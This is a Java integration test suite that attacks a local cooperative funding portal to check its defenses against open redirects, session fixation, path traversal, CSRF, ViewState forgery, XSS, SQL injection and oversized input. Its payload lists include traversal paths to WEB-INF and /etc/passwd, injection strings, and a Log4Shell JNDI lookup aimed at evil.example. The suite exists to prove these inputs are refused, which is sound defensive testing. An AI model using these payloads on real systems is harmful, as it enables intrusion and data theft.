package coop.impulsion.access;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import coop.impulsion.testing.http.Answer;
import coop.impulsion.testing.http.DemoVisitors;
import coop.impulsion.testing.http.Form;
import coop.impulsion.testing.http.Visitor;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.container.annotation.ArquillianTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody does who means harm, with a browser's tools alone. */
@ArquillianTest
@RunAsClient
class AttackIT {

    private static final String ADDRESS = "http://127.0.0.1:" + System.getProperty("it.http.port");
    private static final String PASSWORD = "demo-impulsion-39";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//evil.example/home.xhtml",
                "/\\evil.example/home.xhtml",
                "/home.xhtml?from=//evil.example",
                "/home.xhtml?from=https:%2F%2Fevil.example&continue=https:evil.example",
                "/%2F%2Fevil.example/home.xhtml",
                "/home.xhtml%0d%0aLocation:%20https:%2F%2Fevil.example"
            })
    void leadsNobodyAwayAfterTheirSignIn(String asked) {
        Visitor visitor = new Visitor();
        Answer answer = visitor.getOnce(asked.replace("\\", "%5C"));
        if (answer.status() != 302) {
            assertTrue(answer.status() >= 400 && answer.status() < 500, answer::toString);
            return;
        }
        assertStaysHere(answer);
        Answer form = visitor.get(path(answer.header("Location")));
        Answer signedIn = visitor.submit(form, signInForm(form), Map.of("text", "nadia", "password", PASSWORD));
        // The visitor follows no redirect that leaves the portal, and fails.
        assertTrue(signedIn.status() < 500, signedIn::toString);
    }

    @Test
    void takesNoSessionFromElsewhereAndEndsItForGood() {
        Answer planted = new Visitor().ask("GET", "/sign-in.xhtml", Map.of("Cookie", "IMPULSION=planted-by-somebody"));
        String own = planted.header("Set-Cookie");
        assertTrue(own.startsWith("IMPULSION=") && !own.contains("planted"), own);
        Visitor visitor = new Visitor();
        visitor.get("/sign-in.xhtml");
        String before = visitor.cookie("IMPULSION");
        visitor.signedIn("nadia", PASSWORD);
        String after = visitor.cookie("IMPULSION");
        assertNotEquals(before, after);
        Visitor thief = new Visitor();
        thief.setCookie("IMPULSION", before);
        assertEquals("Se connecter", thief.get("/home.xhtml").title(), "the session before the sign-in is nobody's");

        assertEquals(200, visitor.post("/sign-out", List.of()).status());
        thief.setCookie("IMPULSION", after);
        assertEquals("Se connecter", thief.get("/home.xhtml").title(), "a session that ended is over");
    }

    @Test
    void keepsItsCookiesFromScriptsAndOtherSites() {
        Answer answer = new Visitor().getOnce("/sign-in.xhtml");
        List<String> cookies = answer.headers().allValues("Set-Cookie");
        assertFalse(cookies.isEmpty());
        for (String cookie : cookies) {
            String small = cookie.toLowerCase();
            assertTrue(small.contains("httponly") && small.contains("samesite=lax"), cookie);
        }
    }

    /** A page, a download, an error, a resource, an answer to a program, a redirect, a refusal. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/home.xhtml",
                "/",
                "/commitment/commitments.csv",
                "/document/file?id=1",
                "/document/file?id=999999999",
                "/no-such-page.xhtml",
                "/jakarta.faces.resource/impulsion.css.xhtml?ln=impulsion",
                "/api/v1/risk-sharing/simulations",
                "/territory/search?q=lons",
                "/public/picture?fund=X&number=P-0001&event=1",
                "/access/account.xhtml",
                "/fund/found.xhtml"
            })
    void putsItsHeadersOnEveryAnswer(String path) {
        Answer answer = DemoVisitors.of("nadia").getOnce(path);
        String policy = answer.header("Content-Security-Policy");
        assertTrue(policy.contains("frame-ancestors 'none'"), answer + ": " + policy);
        assertFalse(policy.contains("unsafe"), policy);
        assertEquals(1, answer.headers().allValues("Content-Security-Policy").size(), answer::toString);
        assertEquals("nosniff", answer.header("X-Content-Type-Options"), answer::toString);
        assertEquals("DENY", answer.header("X-Frame-Options"), answer::toString);
        assertEquals("same-origin", answer.header("Referrer-Policy"), answer::toString);
        assertEquals("", answer.header("Server") + answer.header("X-Powered-By"), "what it runs on is its own affair");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/WEB-INF/web.xml",
                "/web-inf/web.xml",
                "/WEB-INF/templates/page.xhtml",
                "/WEB-INF/classes/coop/impulsion/web/messages_fr.properties",
                "/META-INF/MANIFEST.MF",
                "/jakarta.faces.resource/../WEB-INF/web.xml",
                "/jakarta.faces.resource/..%2FWEB-INF%2Fweb.xml.xhtml",
                "/jakarta.faces.resource/%2e%2e/WEB-INF/web.xml.xhtml",
                "/jakarta.faces.resource/..%5CWEB-INF%5Cweb.xml.xhtml",
                "/jakarta.faces.resource/web.xml.xhtml?ln=../WEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?ln=..",
                "/jakarta.faces.resource/web.xml.xhtml?ln=%2e%2e%2fWEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?loc=../WEB-INF&ln=impulsion",
                "/jakarta.faces.resource/web.xml.xhtml?con=../../WEB-INF",
                "/jakarta.faces.resource/web.xml.xhtml?con=..&loc=WEB-INF",
                "/jakarta.faces.resource/page.xhtml.xhtml?ln=..%2FWEB-INF%2Ftemplates",
                "/jakarta.faces.resource/.xhtml?ln=impulsion",
                "/javax.faces.resource/web.xml.xhtml?ln=../WEB-INF",
                "/home.xhtml/../WEB-INF/web.xml",
                "/home.xhtml;/../WEB-INF/web.xml",
                "/public/..%2FWEB-INF/web.xml",
                "/public/%2e%2e/ledger/journal.xhtml",
                "/error/..;/home.xhtml",
                "/public/..;/access/trail.xhtml",
                "//WEB-INF/web.xml",
                "/./WEB-INF/web.xml",
                "/tests/../WEB-INF/web.xml",
                "/document/file?id=../../etc/passwd",
                "/statement/file?run=../../x&contributor=../../y",
                "/public/picture?fund=../..&number=..&event=1"
            })
    void givesNothingOfWhatLiesBesideItsPages(String path) {
        Answer answer = new Visitor().ask("GET", path, Map.of());
        boolean isAskedToSignIn =
                answer.status() == 302 && answer.header("Location").contains("/sign-in.xhtml");
        assertTrue(isAskedToSignIn || answer.status() == 404 || answer.status() == 400, answer::toString);
        Answer known = DemoVisitors.of("jeanne").ask("GET", path, Map.of());
        assertTrue(known.status() >= 400 && known.status() < 500 || known.status() == 302, known::toString);
        for (String inside : List.of("<web-app", "ui:composition", "web.product=", "Implementation-Title")) {
            assertFalse(known.body().contains(inside), known::toString);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "TRACK", "FOO"})
    void doesNothingByOtherMethods(String method) {
        Visitor nadia = DemoVisitors.of("nadia");
        for (String path : List.of("/home.xhtml", "/document/file?id=1", "/sign-out", "/application/save", "/x.txt")) {
            Answer answer = nadia.ask(method, path, Map.of("X-Secret", "of-mine"));
            assertTrue(answer.status() >= 400 && answer.status() < 600, answer::toString);
            assertNotEquals(500, answer.status(), answer::toString);
            assertFalse(answer.body().contains("of-mine"), answer::toString);
        }
    }

    @Test
    void changesNothingByAPostWithoutItsPage() {
        Visitor nadia = DemoVisitors.of("nadia");
        Answer form = nadia.get("/contributor/edit.xhtml");
        String name = "Faux " + System.nanoTime();
        List<Map.Entry<String, String>> fields = new ArrayList<>();
        fields.add(Map.entry("contributor", "contributor"));
        fields.add(Map.entry("contributor:contributorClass", "CITIZEN"));
        fields.add(Map.entry("contributor:name", name));
        fields.add(Map.entry("contributor:save", "x"));
        assertEquals(200, nadia.post("/contributor/edit.xhtml", fields).status());
        String ofAnother = DemoVisitors.of("lea").get("/application/start.xhtml").forms().stream()
                .flatMap(one -> one.fields().stream())
                .filter(field -> field.name().equals("jakarta.faces.ViewState"))
                .findFirst()
                .map(Form.Field::value)
                .orElseThrow();
        for (String state :
                List.of(ofAnother, "stateless", "-1:-1", "0:0", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "")) {
            List<Map.Entry<String, String>> forged = new ArrayList<>(fields);
            forged.add(Map.entry("jakarta.faces.ViewState", state));
            Answer answer = nadia.post("/contributor/edit.xhtml", forged);
            assertTrue(answer.status() < 500, () -> state + ": " + answer);
        }
        assertFalse(
                nadia.get("/contributor/list.xhtml?q=" + name.replace(" ", "%20"))
                        .shows("C-0"),
                form::toString);
    }

    /** The state of a view is the server's: its page holds a name of it, and nothing to be read or forged. */
    @Test
    void keepsTheStateOfItsPagesToItself() {
        for (Form form : DemoVisitors.of("nadia").get("/contributor/edit.xhtml").forms()) {
            form.fields().stream()
                    .filter(field -> field.name().equals("jakarta.faces.ViewState"))
                    .forEach(field -> assertTrue(field.value().matches("-?\\d{1,20}:-?\\d{1,20}"), field.value()));
        }
    }

    @Test
    void takesPostsOfItsOwnSiteOnly() {
        Visitor lea = DemoVisitors.of("lea");
        for (String path : List.of("/application/save", "/application/autosave", "/fund-switch", "/sign-out")) {
            for (Map<String, String> origin : List.of(
                    Map.of("Origin", "https://evil.example"),
                    Map.of("Sec-Fetch-Site", "cross-site"),
                    Map.of("Sec-Fetch-Site", "same-site", "Origin", ADDRESS))) {
                Answer answer = lea.ask("POST", path, origin);
                assertEquals(403, answer.status(), () -> path + " from " + origin);
            }
        }
        assertEquals("À faire", lea.get("/home.xhtml").title(), "still signed in");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/search.xhtml?q=",
                "/contributor/list.xhtml?q=",
                "/commitment/list.xhtml?q=",
                "/project/list.xhtml?q=",
                "/ledger/journal.xhtml?from=",
                "/access/trail.xhtml?person=",
                "/public/verify.xhtml?code=",
                "/award/list.xhtml?q=",
                "/sign-in.xhtml?continue=",
                "/no-such/"
            })
    void showsWhatWasAskedForAsText(String path) {
        String script = "%22%27%3E%3Cscript%3Ealert(1)%3C/script%3E%24%7B191*7919%7D%23%7B191*7919%7D";
        Answer answer = DemoVisitors.of("nadia").get(path + script);
        assertTrue(answer.status() < 500, answer::toString);
        assertFalse(answer.body().contains("<script>alert"), answer::toString);
        assertFalse(answer.body().contains("1512529"), answer::toString);
    }

    /** A parameter that can't be read must not let anybody past the question of their role. */
    @ParameterizedTest
    @CsvSource({
        "jeanne, /ledger/journal.xhtml?from=rien, 403",
        "jeanne, /ledger/balance.xhtml?page=rien, 403",
        "jeanne, /access/trail.xhtml?kind=rien&from=rien, 403",
        "jeanne, /access/users.xhtml?role=rien, 403",
        "jeanne, /commitment/list.xhtml?state=rien, 403",
        "jeanne, /ledger/entry.xhtml?position=rien, 403",
        "lea, /contributor/list.xhtml?class=rien&page=rien, 403",
        "lea, /commitment/receipts.xhtml?kind=rien, 403",
        "lea, /commitment/calls.xhtml?page=rien, 403",
        "lea, /statement/run.xhtml?number=%00, 403"
    })
    void asksForTheRoleWhateverTheAddressSays(String who, String path, int status) {
        Answer answer = DemoVisitors.of(who).get(path);
        assertTrue(answer.status() == status || answer.status() == 404, answer::toString);
    }

    @Test
    void survivesHeadersAndParametersWithoutEnd() {
        Visitor nobody = new Visitor();
        Map<String, String> headers = new HashMap<>();
        headers.put("X-Long", "x".repeat(60_000));
        assertTrue(status(nobody, "/", headers) < 500);
        assertTrue(status(nobody, "/search.xhtml?q=" + "x".repeat(60_000), Map.of()) < 500);
        assertTrue(status(nobody, "/sign-in.xhtml?%00%0d%0a=%00%ff%fe", Map.of()) < 500);
        assertTrue(status(nobody, "/%00", Map.of()) < 500);
        assertTrue(status(nobody, "/%ff%fe.xhtml", Map.of()) < 500);
        List<Map.Entry<String, String>> many = new ArrayList<>();
        for (int i = 0; i < 5_000; i++) {
            many.add(Map.entry("p" + i, "x"));
        }
        assertTrue(nobody.post("/sign-in.xhtml", many).status() < 500);
        assertEquals(200, nobody.get("/").status());
    }

    /** What is typed as a name stands in the trail as one line, and asks the database nothing. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\n2026-11-23 INFO nadia signed in",
                "nadia\u0000",
                "' OR 1=1 --",
                "${jndi:ldap://evil.example/a}",
                "<script>alert(1)</script>"
            })
    void letsNobodyInByAName(String name) {
        Visitor visitor = new Visitor();
        Answer form = visitor.get("/sign-in.xhtml");
        Answer answer = visitor.submit(form, signInForm(form), Map.of("text", name, "password", "wrong"));
        assertEquals(200, answer.status());
        assertEquals("Se connecter", answer.title());
        assertFalse(answer.body().contains("<script>alert"), answer::toString);
    }

    private static int status(Visitor visitor, String path, Map<String, String> headers) {
        try {
            return visitor.ask("GET", path, headers).status();
        } catch (Visitor.PortalGone brokenOff) {
            // The server hangs up on what is too long: also an answer.
            return 0;
        }
    }

    private static Form signInForm(Answer page) {
        return page.forms().stream()
                .filter(form ->
                        form.fields().stream().anyMatch(field -> field.type().equals("password")))
                .findFirst()
                .orElseThrow();
    }

    private static void assertStaysHere(Answer answer) {
        String to = answer.header("Location");
        assertTrue(to.startsWith(ADDRESS + "/") || to.startsWith("/") && !to.startsWith("//"), to);
    }

    private static String path(String location) {
        return location.startsWith(ADDRESS) ? location.substring(ADDRESS.length()) : location;
    }
}
